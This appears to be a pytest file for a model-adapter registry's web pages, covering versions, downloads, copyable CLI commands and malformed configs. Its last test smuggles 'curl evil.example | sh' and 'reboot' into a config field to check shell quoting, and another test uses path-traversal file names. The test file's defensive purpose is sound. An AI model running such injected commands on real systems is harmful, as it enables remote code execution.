"""The page of a delta, its versions and its files."""

from __future__ import annotations

import hashlib
import re
import shlex
from html import unescape

import pytest
from deltahub_cli.main import app_for
from typer.testing import CliRunner

from deltahub.checkpoint.manifest import FileEntry, Manifest, TensorEntry
from deltahub.reference import Reference
from deltahub.registry.edits import remove
from deltahub.registry.publish import Publication, publish
from deltahub.registry.rename import rename
from deltahub.server.pages import card
from deltahub.server.pages import file as file_page
from deltahub.server.records import Record, Records
from deltahub.stores.base import object_key
from tests.server.pages.deltas import tensors_of


@pytest.fixture
def ner(push) -> str:
    push("acme/ner", message="first run", metrics={"f1": 0.81}, tags=["task=ner"])
    push("acme/ner", value=2.0, message="cleaned labels", metrics={"f1": 0.84}, tags=["task=ner"], aliases=["champion"])
    return "acme/ner"


def commands(page) -> list[str]:
    return [
        unescape(found)
        for found in re.findall(r"<div class=\"copy\" data-copy><pre[^>]*>(.*?)</pre>", page.text, re.DOTALL)
    ]


def test_the_page_says_what_the_registry_knows(pages, hub, ner):
    text = pages.get(f"/{ner}").text
    found = hub.registry.resolve(Reference.parse(ner))
    told = (
        "v2",
        "champion",
        "cleaned labels",
        "0.84",
        "f1, sentiment on sst2",
        "task=ner",
        "bert-tiny",
        "BertModel",
        "What it is for.",
        "lora_alpha",
    )
    for word in (*told, found.entry.digest, found.manifest.config["backbone_hash"]):
        assert word in text, word
    for entry in found.manifest.files:
        assert f'href="/{ner}/blob/v2/{entry.path}"' in text
        assert entry.sha256 in text


@pytest.mark.parametrize(("known", "told"), [(["sentiment"], "f1, sentiment<"), ([], "f1<")])
def test_a_metric_is_shown_with_what_is_known_of_it(pages, push, known, told):
    push("acme/bare", metrics={"f1": 0.8}, metadata={"train_tasks": known, "train_datasets": []})
    assert told in pages.get("/acme/bare").text


def test_files_are_downloaded_byte_for_byte_and_never_opened(pages, hub, ner):
    found = hub.registry.resolve(Reference.parse(ner))
    links = re.findall(r'href="([^"]+)" download', pages.get(f"/{ner}").text)
    assert len(links) == len(found.manifest.files) == 4
    for link, entry in zip(links, found.manifest.files, strict=True):
        answer = pages.get(link)
        assert answer.content == hub.registry.store.read(object_key(entry.sha256))
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("asked", ["v1", "v2", "champion", "main"])
def test_a_version_is_found_by_number_alias_or_branch(pages, ner, asked):
    page = pages.get(f"/{ner}/tree/{asked}")
    assert page.status_code == 200
    assert ("You are viewing v1. The newest version" in page.text) == (asked == "v1")
    assert ("0.81" in page.text) == (asked == "v1")


def test_the_address_of_a_commit_leads_to_its_version(pages, hub, ner):
    digest = hub.registry.document(ner).versions["v1"].digest
    for asked in (digest[7:47], digest[7:20]):
        answer = pages.get(f"/{ner}/commit/{asked}", allow_redirects=False)
        assert (answer.status_code, answer.headers["Location"]) == (302, f"/{ner}/tree/v1")


def test_versions_show_aliases_removals_and_every_move(pages, hub, ner, push):
    push(ner, value=3.0, message="a mistake")
    remove(hub.registry, ner, "v3", message="trained on the test set")
    text = pages.get(f"/{ner}/versions").text
    assert re.search(r'tree/v2">v2</a></th>\s*<td><span class="chip alias">champion', text)
    assert "<s>v3</s>" in text
    assert "trained on the test set" in text
    for move in ("push <b>v1</b>", "alias <b>champion</b>", "remove <b>v3</b>"):
        assert move in text


def test_of_many_files_the_page_lists_some_and_says_how_many_more_there_are(pages, ner, monkeypatch):
    monkeypatch.setattr("deltahub.server.pages.delta._FILES", 1)
    assert "more files are not shown" in pages.get("/acme/ner").text


def test_an_old_name_leads_to_the_new_one(pages, hub, ner):
    rename(hub.registry, Reference.parse(ner), Reference.parse("acme/names"))
    answer = pages.get(f"/{ner}", allow_redirects=False)
    assert (answer.status_code, answer.headers["Location"]) == (302, "/acme/names")


def test_others_on_the_very_same_backbone_are_listed(pages, hub, ner, push):
    push("lab/sst2", value=3.0)
    push("lab/other", backbone="llama-tiny")
    push("lab/secret", value=4.0)
    hub.hide("lab/secret")
    part = pages.get(f"/{ner}").text.partition("On the same backbone")[2]
    assert "lab/sst2" in part
    assert "lab/other" not in part
    assert "lab/secret" not in part
    assert "No other delta in this registry" in pages.get("/lab/other").text


def test_the_commands_name_this_hub_and_this_version(pages, push):
    push("acme/ner")
    found = commands(pages.get("/acme/ner"))
    assert f"deltahub source add team {pages.url}" in found
    assert "deltahub pull team:acme/ner@v1 --to ./ner" in found


WITHOUT_HEAD = {name: value for name, value in tensors_of(2).items() if ".deltas." in name}


@pytest.mark.parametrize(
    ("content", "peft", "vllm"),
    [
        ({}, True, False),  # it has a head, which vLLM does not take
        ({"tensors": WITHOUT_HEAD}, True, True),
        ({"tensors": WITHOUT_HEAD, "use_dora": True}, True, False),
        ({"method": "ia3"}, True, False),
        ({"method": "bitfit"}, False, False),
        ({"method": "prefix"}, False, False),
    ],
)
def test_only_commands_that_apply_are_offered(pages, push, content, peft, vllm):
    push("acme/ner", **content)
    found = commands(pages.get("/acme/ner"))
    assert any("--format peft" in line for line in found) == peft
    assert any(line.startswith("vllm serve bert-tiny --enable-lora") for line in found) == vllm


def test_the_vllm_command_sets_a_large_rank(pages, push):
    push("acme/ner", tensors=WITHOUT_HEAD, lora_r=24)
    assert any(line.endswith("--max-lora-rank 32") for line in commands(pages.get("/acme/ner")))


def test_the_parents_of_a_delta_are_shown(pages, push):
    parent = {"relation": "resumed", "digest": f"sha256:{'a' * 64}", "name": "acme/ner"}
    push("acme/next", parents=[parent])
    text = pages.get("/acme/next").text
    assert "Derived from" in text
    assert f"sha256:{'a' * 64}" in text
    assert 'href="/acme/ner"' in text


def test_a_huge_card_is_not_rendered_but_can_be_downloaded(pages, push):
    push("acme/huge", card="word " * (card.LARGEST // 5 + 1))
    page = pages.get("/acme/huge")
    assert "Download it to read it" in page.text
    assert len(page.content) < 50_000
    assert len(pages.get("/acme/huge/resolve/v1/README.md").content) > card.LARGEST


def test_a_damaged_card_is_reported_and_the_rest_is_shown(pages, hub, ner, registry):
    entry = next(file for file in registry.resolve(Reference.parse(ner)).manifest.files if file.path == "README.md")
    path = registry.store.root / object_key(entry.sha256)
    path.chmod(0o644)
    path.write_bytes(b"another card")
    page = pages.get(f"/{ner}")
    assert page.status_code == 200
    assert "The card is damaged or missing" in page.text
    assert "another card" not in page.text


def test_text_is_shown_as_text_and_tensors_as_a_table(pages, ner):
    assert "&#34;lora_alpha&#34;: 4" in pages.get(f"/{ner}/blob/v2/delta_config.json").text
    table = pages.get(f"/{ner}/blob/v2/delta.safetensors").text
    assert "encoder.layer.0.query.deltas.lora_A" in table
    assert "2 × 6" in table


def test_a_large_file_is_not_shown(pages, ner, monkeypatch):
    monkeypatch.setattr(file_page, "LARGEST", 10)
    assert "up to 10 are shown" in pages.get(f"/{ner}/blob/v2/delta_config.json").text


@pytest.mark.parametrize("path", ["nope.txt", "..%2Fsecret", "%2e%2e/x", "a/b/c", "README.md%00"])
def test_a_file_that_is_not_there_is_a_page_that_says_so(pages, ner, path):
    page = pages.get(f"/{ner}/blob/v2/{path}")
    assert page.status_code in (400, 404)
    assert "<h1" in page.text


def test_a_repository_without_a_version_says_so(pages, hub):
    Records(hub.registry.store).change("acme/new", lambda _: Record("2026-01-01T00:00:00Z", "ada"))
    page = pages.get("/acme/new")
    assert page.status_code == 404
    assert "has no version yet" in page.text


@pytest.mark.slow
def test_the_commands_to_copy_work_as_they_are(pages, hub, push, tmp_path, monkeypatch):
    push(
        "acme/ner",
        tensors={re.sub(r"(layer\.\d+)", r"\1.attention.self", name): it for name, it in WITHOUT_HEAD.items()},
    )
    lines = [line for line in commands(pages.get("/acme/ner")) if line.startswith("deltahub ")]
    assert len(lines) == 3
    monkeypatch.setenv("HF_ENDPOINT", pages.url)  # there is no other hub for it to ask
    monkeypatch.setenv("HF_HUB_OFFLINE", "0")
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", False)
    monkeypatch.chdir(tmp_path)
    for line in lines:
        words = shlex.split(line)[1:]
        done = CliRunner().invoke(app_for(words), words)
        assert done.exit_code == 0, f"{line}: {done.stderr}"
    entries = hub.registry.resolve(Reference.parse("acme/ner")).manifest.files
    assert {path.name for path in (tmp_path / "ner").iterdir()} == {entry.path for entry in entries}
    assert (tmp_path / "ner-peft" / "adapter_config.json").is_file()


STRANGE = (
    {"delta_type": ["x"], "lora_r": "x", "lora_alpha": None, "parents": [1, {"relation": 2, "digest": None}, {}]},
    {"backbone_hash": 7, "backbone_class": ["a"], "backbone_checkpoint_name": {"a": 1}, "parents": {"a": 1}},
    {"metadata": {"tags": 3, "test_result": [1], "description": {"a": [1]}}, "delta_type": "lora", "lora_r": -3},
    {},
)


@pytest.mark.parametrize("config", STRANGE)
def test_strange_configs_of_files_of_any_kind_are_no_failure(pages, registry, tmp_path, config):
    (tmp_path / "notes.txt").write_bytes(b"a note")
    entries = (FileEntry("notes.txt", hashlib.sha256(b"a note").hexdigest(), 6),)
    tensors = (TensorEntry("", "F32", ()), TensorEntry("a" * 5000, "F4", (0, 1)))
    metrics = ({"metric_type": "f1", "metric_value": "high"}, {"metric_type": "f1", "metric_value": 1})
    manifest = Manifest(config, entries, tensors, {"total": 0, "delta": 0}, metrics, "files")
    publish(registry, Publication(Reference.parse("acme/odd"), manifest, tmp_path))
    for path in ("", "?q=odd", "acme/odd", "acme/odd/versions", "acme/odd/layers/v1", "acme/odd/blob/v1/notes.txt"):
        assert pages.get(f"/{path}").status_code == 200, path
    assert pages.get("/-/compare?left=acme/odd&right=acme/odd@v1").status_code == 200


def test_values_from_a_config_are_quoted_in_commands(pages, push):
    written = "bert; curl evil.example | sh\nreboot #"
    push("acme/ner", backbone=written, method="layer_norm")
    found = [shlex.split(line) for line in commands(pages.get("/acme/ner")) if "evil" in line]
    assert [words[words.index("--backbone") + 1] for words in found] == [" ".join(written.split())]
